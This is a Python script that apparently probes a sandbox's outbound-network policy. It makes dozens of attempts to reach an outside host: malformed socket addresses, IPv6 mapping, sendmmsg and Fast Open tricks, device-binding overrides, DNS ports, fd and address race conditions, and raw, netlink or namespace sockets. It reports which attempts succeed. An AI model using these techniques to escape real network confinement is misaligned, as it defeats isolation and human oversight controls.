"""Ways around a network policy, one function each. Each tries to get its own name to the internet
side, or to make something that could. Prints `OPEN name` for what could be made, `done` at the end.

usage: bypass.py FAR FAR6 PORT OTHER_DEVICE
"""
import array, ctypes, errno, mmap, os, socket, struct, sys, threading, time

FAR, FAR6, PORT, DEVICE = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
libc = ctypes.CDLL(None, use_errno=True)
ATTEMPTS = []
RACES = 400


def attempt(function):
    ATTEMPTS.append(function)
    return function


def name(function):
    return (function.__name__ + "\n").encode()


def sin(host, port, family=socket.AF_INET):
    return struct.pack("=H", family) + struct.pack(">H", port) + socket.inet_aton(host) + bytes(8)


def sin6(host, port):
    return struct.pack("=H", socket.AF_INET6) + struct.pack(">H", port) + bytes(4) + \
        socket.inet_pton(socket.AF_INET6, host) + bytes(4)


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def connect_raw(sock, address):
    buffer = ctypes.create_string_buffer(address, len(address))
    sock.setblocking(True)
    checked(libc.connect(sock.fileno(), buffer, len(address)))
    sock.settimeout(3)


def sendto_raw(sock, data, flags, address):
    buffer = ctypes.create_string_buffer(address, len(address))
    sock.setblocking(True)
    checked(libc.sendto(sock.fileno(), data, len(data), flags, buffer, len(address)))


def stream(family=socket.AF_INET):
    sock = socket.socket(family, socket.SOCK_STREAM)
    sock.settimeout(3)
    return sock


def datagram(family=socket.AF_INET):
    sock = socket.socket(family, socket.SOCK_DGRAM)
    sock.settimeout(3)
    return sock


def finish(sock, data):
    sock.sendall(data)
    sock.recv(100)
    sock.close()


def loopback_listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(64)
    return server, server.getsockname()[1]


@attempt
def tcp4():
    s = stream(); s.connect((FAR, PORT)); finish(s, name(tcp4))

@attempt
def tcp4_nonblocking():
    s = stream(); s.setblocking(False)
    try:
        s.connect((FAR, PORT))
    except BlockingIOError:
        time.sleep(0.3)
    s.setblocking(True); s.settimeout(3); finish(s, name(tcp4_nonblocking))

@attempt
def tcp6():
    s = stream(socket.AF_INET6); s.connect((FAR6, PORT)); finish(s, name(tcp6))

@attempt
def tcp6_mapped():
    s = stream(socket.AF_INET6); s.connect(("::ffff:" + FAR, PORT)); finish(s, name(tcp6_mapped))

@attempt
def tcp6_short_address():
    s = stream(socket.AF_INET6); connect_raw(s, sin6(FAR6, PORT)[:24]); finish(s, name(tcp6_short_address))

@attempt
def tcp4_long_address():
    s = stream(); connect_raw(s, sin(FAR, PORT) + bytes(100)); finish(s, name(tcp4_long_address))

@attempt
def tcp4_upper_halves():
    s = stream(); s.setblocking(True); address = ctypes.create_string_buffer(sin(FAR, PORT), 16)
    libc.syscall.argtypes = None
    checked(libc.syscall(ctypes.c_long(42), ctypes.c_ulong(s.fileno() | 0xdead << 32), address, ctypes.c_ulong(16 | 0xbeef << 32)))
    finish(s, name(tcp4_upper_halves))

@attempt
def udp4():
    s = datagram(); s.sendto(name(udp4), (FAR, PORT)); s.recv(100)

@attempt
def udp4_connected():
    s = datagram(); s.connect((FAR, PORT)); s.send(name(udp4_connected)); s.recv(100)

@attempt
def udp4_sendmsg():
    s = datagram(); s.sendmsg([name(udp4_sendmsg)], [], 0, (FAR, PORT)); s.recv(100)

class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

class Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint), ("iov", ctypes.c_void_p),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p),
                ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int)]

class Mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", Msghdr), ("length", ctypes.c_uint)]

def message(address, data, control=b""):
    keep = [ctypes.create_string_buffer(address, len(address)), ctypes.create_string_buffer(data, len(data)),
            ctypes.create_string_buffer(control, len(control) or 1)]
    iov = Iovec(ctypes.addressof(keep[1]), len(data))
    hdr = Msghdr(ctypes.addressof(keep[0]), len(address), ctypes.addressof(iov), 1,
                 ctypes.addressof(keep[2]) if control else None, len(control), 0)
    return hdr, keep + [iov]

@attempt
def udp4_sendmmsg():
    s = datagram(); hdr, keep = message(sin(FAR, PORT), name(udp4_sendmmsg))
    several = (Mmsghdr * 2)(Mmsghdr(hdr, 0), Mmsghdr(hdr, 0))
    checked(libc.sendmmsg(s.fileno(), several, 2, 0)); s.recv(100)

@attempt
def udp4_sendmmsg_second():
    s = datagram()
    near, keep1 = message(sin("127.0.0.1", PORT), b"x"); far, keep2 = message(sin(FAR, PORT), name(udp4_sendmmsg_second))
    several = (Mmsghdr * 2)(Mmsghdr(near, 0), Mmsghdr(far, 0))
    checked(libc.sendmmsg(s.fileno(), several, 2, 0)); time.sleep(0.2)

@attempt
def udp4_corked():
    s = datagram(); s.setsockopt(socket.IPPROTO_UDP, 1, 1)
    s.sendto(name(udp4_corked), (FAR, PORT)); s.setsockopt(socket.IPPROTO_UDP, 1, 0); s.recv(100)

@attempt
def udp4_broadcast():
    s = datagram(); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(name(udp4_broadcast), ("10.77.0.255", PORT)); time.sleep(0.2)

@attempt
def udp4_all_hosts():
    s = datagram(); s.sendto(name(udp4_all_hosts), ("224.0.0.1", PORT)); time.sleep(0.2)

@attempt
def udp6_all_nodes():
    s = datagram(socket.AF_INET6)
    s.sendto(name(udp6_all_nodes), ("ff02::1", PORT, 0, socket.if_nametoindex(DEVICE))); time.sleep(0.2)

@attempt
def udp6():
    s = datagram(socket.AF_INET6); s.sendto(name(udp6), (FAR6, PORT)); s.recv(100)

@attempt
def udp6_mapped():
    s = datagram(socket.AF_INET6); s.sendto(name(udp6_mapped), ("::ffff:" + FAR, PORT)); s.recv(100)

@attempt
def udp6_with_ipv4_address():
    s = datagram(socket.AF_INET6); sendto_raw(s, name(udp6_with_ipv4_address), 0, sin(FAR, PORT)); s.recv(100)

@attempt
def udp6_connect_with_ipv4_address():
    s = datagram(socket.AF_INET6); connect_raw(s, sin(FAR, PORT)); s.send(name(udp6_connect_with_ipv4_address)); s.recv(100)

@attempt
def udp4_without_family():
    s = datagram(); sendto_raw(s, name(udp4_without_family), 0, sin(FAR, PORT, 0)); s.recv(100)

@attempt
def udp4_sendmsg_without_family():
    s = datagram(); hdr, keep = message(sin(FAR, PORT, 0), name(udp4_sendmsg_without_family))
    checked(libc.sendmsg(s.fileno(), ctypes.byref(hdr), 0)); s.recv(100)

@attempt
def udp4_connected_here_sent_there():
    s = datagram(); s.connect(("127.0.0.1", PORT)); s.sendto(name(udp4_connected_here_sent_there), (FAR, PORT)); time.sleep(0.2)

@attempt
def udp4_dissolved():
    s = datagram(); s.connect(("127.0.0.1", PORT)); connect_raw(s, bytes(16))
    s.sendto(name(udp4_dissolved), (FAR, PORT)); time.sleep(0.2)

@attempt
def udp4_reconnected():
    s = datagram(); s.connect(("127.0.0.1", PORT)); s.connect((FAR, PORT)); s.send(name(udp4_reconnected)); s.recv(100)

@attempt
def tcp4_dissolved_and_reconnected():
    server, port = loopback_listener()
    s = stream(); s.connect(("127.0.0.1", port)); s.setblocking(True); connect_raw(s, bytes(16))
    s.settimeout(3); s.connect((FAR, PORT)); finish(s, name(tcp4_dissolved_and_reconnected))

@attempt
def fast_open_sendto():
    s = stream(); sendto_raw(s, name(fast_open_sendto), 0x20000000, sin(FAR, PORT)); s.recv(100)

@attempt
def fast_open_sendmsg():
    s = stream(); s.setblocking(True); hdr, keep = message(sin(FAR, PORT), name(fast_open_sendmsg))
    checked(libc.sendmsg(s.fileno(), ctypes.byref(hdr), 0x20000000)); s.recv(100)

@attempt
def fast_open_sendmmsg():
    s = stream(); s.setblocking(True); hdr, keep = message(sin(FAR, PORT), name(fast_open_sendmmsg))
    checked(libc.sendmmsg(s.fileno(), (Mmsghdr * 1)(Mmsghdr(hdr, 0)), 1, 0x20000000)); s.recv(100)

@attempt
def fast_open_connect():
    s = stream(); s.setsockopt(socket.IPPROTO_TCP, 30, 1); s.connect((FAR, PORT)); finish(s, name(fast_open_connect))

def packet_info(device):
    data = struct.pack("=i", device) + bytes(8)
    return struct.pack("=Qii", 16 + len(data), 0, 8) + data + bytes(4)

@attempt
def udp4_packet_info_device():
    s = datagram(); control = packet_info(socket.if_nametoindex(DEVICE))
    hdr, keep = message(sin(FAR, PORT), name(udp4_packet_info_device), control)
    checked(libc.sendmsg(s.fileno(), ctypes.byref(hdr), 0)); s.recv(100)

@attempt
def udp4_packet_info_device_of_a_tied_socket():
    # A tie alone keeps nothing inside: the kernel prefers the device in the message (net/ipv4/udp.c).
    s = datagram()
    try:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo\0")
    except PermissionError:
        pass # It is tied already.
    control = packet_info(socket.if_nametoindex(DEVICE))
    hdr, keep = message(sin(FAR, PORT), name(udp4_packet_info_device_of_a_tied_socket), control)
    checked(libc.sendmsg(s.fileno(), ctypes.byref(hdr), 0)); s.recv(100)

@attempt
def udp4_bound_first():
    s = datagram(); s.bind(("0.0.0.0", 0)); s.sendto(name(udp4_bound_first), (FAR, PORT)); s.recv(100)

@attempt
def tcp4_bound_first():
    s = stream(); s.bind(("", 0)); s.connect((FAR, PORT)); finish(s, name(tcp4_bound_first))

@attempt
def by_name_of_another():
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid(); tcp = stream(); tcp.connect((FAR, PORT)); finish(tcp, name(by_name_of_another))
        finally:
            os._exit(0)
    os.waitpid(pid, 0)

@attempt
def dns_udp():
    s = datagram(); s.sendto(b"dns_udp\n", (FAR, 53)); s.recv(100)

@attempt
def dns_tcp():
    s = stream(); s.connect((FAR, 53)); s.sendall(name(dns_tcp)); time.sleep(0.2)

@attempt
def other_thread():
    t = threading.Thread(target=lambda: finish_quietly(other_thread)); t.start(); t.join()

def finish_quietly(function):
    try:
        s = stream(); s.connect((FAR, PORT)); finish(s, name(function))
    except OSError:
        pass

def race(near, far, act, shared=False):
    """`act(buffer)` while somebody else exchanges the address in the buffer."""
    memory = mmap.mmap(-1, 128) if shared else bytearray(128)
    buffer = (ctypes.c_char * 128).from_buffer(memory)
    buffer[0:len(near)] = near
    if shared:
        pid = os.fork()
        if pid == 0:
            while os.getppid() != 1:
                ctypes.memmove(buffer, far, len(far)); ctypes.memmove(buffer, near, len(near))
            os._exit(0)
    else:
        stop = threading.Event()
        def flip():
            while not stop.is_set():
                ctypes.memmove(buffer, far, len(far)); ctypes.memmove(buffer, near, len(near))
        flipper = threading.Thread(target=flip); flipper.start()
    try:
        for _ in range(RACES):
            try:
                act(buffer)
            except OSError:
                pass
    finally:
        if shared:
            os.kill(pid, 9); os.waitpid(pid, 0)
        else:
            stop.set(); flipper.join()

@attempt
def race_connect_address():
    server, port = loopback_listener(); server.setblocking(False)
    def act(buffer):
        s = socket.socket(); s.settimeout(1)
        try:
            s.setblocking(True); checked(libc.connect(s.fileno(), buffer, 16)); s.send(name(race_connect_address))
        finally:
            s.close()
            try:
                server.accept()[0].close()
            except OSError:
                pass
    race(sin("127.0.0.1", port), sin(FAR, PORT), act)

@attempt
def race_connect_shared_memory():
    server, port = loopback_listener(); server.setblocking(False)
    def act(buffer):
        s = socket.socket()
        try:
            checked(libc.connect(s.fileno(), buffer, 16)); s.send(name(race_connect_shared_memory))
        finally:
            s.close()
            try:
                server.accept()[0].close()
            except OSError:
                pass
    race(sin("127.0.0.1", port), sin(FAR, PORT), act, shared=True)

@attempt
def race_sendto_address():
    s = datagram(); data = name(race_sendto_address)
    race(sin("127.0.0.1", PORT), sin(FAR, PORT), lambda b: checked(libc.sendto(s.fileno(), data, len(data), 0, b, 16)))

@attempt
def race_sendto_shared_memory():
    s = datagram(); data = name(race_sendto_shared_memory)
    race(sin("127.0.0.1", PORT), sin(FAR, PORT), lambda b: checked(libc.sendto(s.fileno(), data, len(data), 0, b, 16)), shared=True)

@attempt
def race_sendmsg_address():
    s = datagram()
    def act(buffer):
        hdr, keep = message(sin("127.0.0.1", PORT), name(race_sendmsg_address))
        hdr.name = ctypes.addressof(buffer)
        checked(libc.sendmsg(s.fileno(), ctypes.byref(hdr), 0))
    race(sin("127.0.0.1", PORT), sin(FAR, PORT), act)

@attempt
def race_dup2_datagram():
    """The descriptor of a send is a local socket when it is looked at, a connected one when it is used."""
    near = datagram(); number = os.dup(near.fileno()); stop = threading.Event()
    def flip():
        while not stop.is_set():
            other = datagram(socket.AF_INET6); os.dup2(other.fileno(), number); os.dup2(near.fileno(), number); other.close()
    t = threading.Thread(target=flip); t.start()
    address = ctypes.create_string_buffer(sin(FAR, PORT), 16); data = name(race_dup2_datagram)
    for _ in range(RACES):
        libc.sendto(number, data, len(data), 0, address, 16)
    stop.set(); t.join()

@attempt
def race_dup2():
    server, port = loopback_listener(); server.setblocking(False)
    unix = socket.socket(socket.AF_UNIX); number = os.dup(unix.fileno()); stop = threading.Event()
    def flip():
        while not stop.is_set():
            tcp = socket.socket(); os.dup2(tcp.fileno(), number); os.dup2(unix.fileno(), number); tcp.close()
    t = threading.Thread(target=flip); t.start()
    address = ctypes.create_string_buffer(sin(FAR, PORT), 16); data = name(race_dup2)
    for _ in range(RACES):
        if libc.connect(number, address, 16) == 0:
            try:
                os.write(number, data)
            except OSError:
                pass
    stop.set(); t.join()


def opens(label, make):
    try:
        kept = make()
    except OSError:
        return
    print("OPEN", label)

def option(family, level, number, value):
    def make():
        s = datagram(family); s.setsockopt(level, number, value); return s
    return make

def link_changed():
    """Sets a device up that is up: takes the right to change devices."""
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    device = struct.pack("=BxHiII", 0, 0, socket.if_nametoindex("lo"), 1, 1)
    s.sendto(struct.pack("=IHHII", 16 + len(device), 16, 5, 1, 0) + device, (0, 0))
    error = struct.unpack("=i", s.recv(999)[16:20])[0]
    if error:
        raise OSError(-error, "netlink")

def listen_raced():
    """Listens on all addresses, tied to no device: the address that a connection gave is dissolved
    during the call."""
    sys.setswitchinterval(1e-6)
    server, port = loopback_listener()
    nowhere = ctypes.create_string_buffer(bytes(16), 16); current = [None]; stop = threading.Event()
    def dissolve():
        while not stop.is_set():
            number = current[0]
            if number is not None:
                current[0] = None
                libc.connect(number, nowhere, 16)
    t = threading.Thread(target=dissolve); t.start()
    try:
        for wait in range(10 * RACES):
            s = stream(); s.connect(("127.0.0.1", port)); s.setblocking(True)
            peer, _ = server.accept()
            if wait == 0:
                # No race at all: what any program can do where nothing ties it.
                libc.connect(s.fileno(), nowhere, 16)
            else:
                current[0] = s.fileno()
            for _ in range(wait % 97):
                pass
            listens = libc.listen(s.fileno(), 1) == 0
            tied = s.getsockopt(socket.SOL_SOCKET, 25, 16).strip(b"\0")
            if listens and s.getsockopt(socket.SOL_SOCKET, 30) and not tied \
                    and s.getsockname()[0] == "0.0.0.0":
                return s
            s.close(); peer.close()
    finally:
        stop.set(); t.join()
    raise OSError(errno.EPERM, "never won")

# `ret #-1` (linux/filter.h).
KEEP_ALL = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0xffffffff), 8)

def made(*args):
    return lambda: socket.socket(*args)

SOURCE_ROUTE = bytes([1, 131, 7, 4]) + socket.inet_aton(FAR) + bytes(0)
ROUTING_HEADER = bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, FAR6)
MAKE = [
    ("source_route", option(socket.AF_INET, socket.IPPROTO_IP, 4, SOURCE_ROUTE)),
    ("routing_header", option(socket.AF_INET6, socket.IPPROTO_IPV6, 57, ROUTING_HEADER)),
    ("bind_to_device", option(socket.AF_INET, socket.SOL_SOCKET, 25, DEVICE.encode())),
    ("bind_to_index", option(socket.AF_INET, socket.SOL_SOCKET, 62, struct.pack("=i", socket.if_nametoindex(DEVICE)))),
    ("unicast_interface", option(socket.AF_INET, socket.IPPROTO_IP, 50, struct.pack(">I", socket.if_nametoindex(DEVICE)))),
    ("membership", option(socket.AF_INET, socket.IPPROTO_IP, 35, socket.inet_aton("239.1.2.3") + socket.inet_aton("10.77.0.1"))),
    ("membership6", option(socket.AF_INET6, socket.IPPROTO_IPV6, 20, socket.inet_pton(socket.AF_INET6, "ff05::77") + struct.pack("=i", socket.if_nametoindex(DEVICE)))),
    ("packet_info6", option(socket.AF_INET6, socket.IPPROTO_IPV6, 50, bytes(16) + struct.pack("=i", socket.if_nametoindex(DEVICE)))),
    ("zero_copy", option(socket.AF_INET, socket.SOL_SOCKET, 60, 1)),
    ("socket_filter", option(socket.AF_INET, socket.SOL_SOCKET, 26, struct.pack("HHP", 1, 0, ctypes.addressof(KEEP_ALL)))),
    ("listen_raced", listen_raced),
    ("raw", made(socket.AF_INET, socket.SOCK_RAW, 255)),
    ("raw_icmp", made(socket.AF_INET, socket.SOCK_RAW, 1)),
    ("packet", made(socket.AF_PACKET, socket.SOCK_RAW, 0)),
    ("packet_datagram", made(socket.AF_PACKET, socket.SOCK_DGRAM, 0)),
    ("ping", made(socket.AF_INET, socket.SOCK_DGRAM, 1)),
    ("ping6", made(socket.AF_INET6, socket.SOCK_DGRAM, 58)),
    ("udplite", made(socket.AF_INET, socket.SOCK_DGRAM, 136)),
    ("mptcp", made(socket.AF_INET, socket.SOCK_STREAM, 262)),
    ("sctp", made(socket.AF_INET, socket.SOCK_STREAM, 132)),
    ("vsock", made(40, socket.SOCK_STREAM, 0)),
    ("generic_netlink", made(socket.AF_NETLINK, socket.SOCK_RAW, 16)),
    ("netfilter_netlink", made(socket.AF_NETLINK, socket.SOCK_RAW, 12)),
    ("xfrm_netlink", made(socket.AF_NETLINK, socket.SOCK_RAW, 6)),
    ("sock_diag_netlink", made(socket.AF_NETLINK, socket.SOCK_RAW, 4)),
    ("route_netlink_change", link_changed),
    ("alg", made(38, socket.SOCK_SEQPACKET, 0)),
    ("tipc", made(30, socket.SOCK_STREAM, 0)),
    ("bluetooth", made(31, socket.SOCK_RAW, 1)),
    ("io_uring", lambda: checked(libc.syscall(425, 4, ctypes.create_string_buffer(120)))),
    ("namespace", lambda: checked(libc.unshare(0x40000000))),
    ("user_namespace", lambda: checked(libc.unshare(0x10000000 | 0x40000000))),
    ("lan_address", lambda: socket.create_server(("10.77.0.1", 0))),
]

for function in ATTEMPTS:
    try:
        function()
    except (OSError, RuntimeError) as e:
        print("no", function.__name__, errno.errorcode.get(getattr(e, "errno", None), e))
for label, make in MAKE:
    pid = os.fork()
    if pid == 0:
        opens(label, make); sys.stdout.flush(); os._exit(0)
    os.waitpid(pid, 0)
print("attempts", len(ATTEMPTS) + len(MAKE))
print("done")
